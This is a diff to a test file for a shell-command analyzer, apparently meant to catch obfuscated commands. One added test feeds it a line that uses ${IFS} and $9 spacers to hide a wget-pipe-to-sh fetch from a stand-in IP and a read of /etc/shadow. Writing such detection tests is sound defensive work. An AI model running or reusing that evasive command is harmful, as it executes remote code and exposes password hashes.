@@ -101,7 +101,18 @@ def test_a_scripts_positional_parameters_are_the_arguments_after_it() -> None:
     assert ("echo", "notes.txt", "/srv/share/out") in [c.argv for c in a.commands]
     assert ("/srv/share/out", "write") in {(f.path, f.op) for f in a.files}
     outside = analyze("sh -c 'true' _ x; echo \"$1\"")  # bound only while the script is read
-    assert ("echo", "${1}") in [c.argv for c in outside.commands]
+    assert ("echo", "") in [c.argv for c in outside.commands]
+
+
+def test_unset_ifs_splits_words_and_unset_positionals_are_empty() -> None:
+    """``${IFS}`` in place of a blank, and ``$9`` (an argument the command never got) as a spacer,
+    hide a command's words from anything that reads the text as written."""
+    a = analyze("wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh; cat$IFS$9/etc/shadow")
+    argvs = [c.argv for c in a.commands]
+    assert ("wget", "-qO-", "http://203.0.113.9/i") in argvs and ("cat", "/etc/shadow") in argvs
+    assert {"ifs", "variables"} <= a.obfuscation
+    quoted = analyze('IFS=, read -r a b <<< "x,y"; printf "%s" "$IFS"')
+    assert ("printf", "%s", ",") in [c.argv for c in quoted.commands]  # set: its value, not split
 
 
 def test_find_exec_acts_on_the_files_found() -> None:
